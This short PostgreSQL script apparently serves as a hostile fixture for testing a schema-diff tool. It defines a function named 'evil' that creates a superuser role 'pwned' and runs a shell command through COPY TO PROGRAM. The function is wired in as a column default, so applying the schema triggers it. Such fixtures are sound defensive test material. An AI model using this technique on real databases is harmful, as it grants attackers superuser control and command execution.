CREATE TABLE public.t (id int);
CREATE FUNCTION public.evil() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    EXECUTE 'CREATE ROLE pwned SUPERUSER';
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /tmp/schemadiff-hostile-pwned''';
    RETURN 1;
END
$$;
ALTER TABLE public.t ADD COLUMN c int NOT NULL DEFAULT public.evil();
CREATE VIEW public.v AS SELECT c FROM public.t;
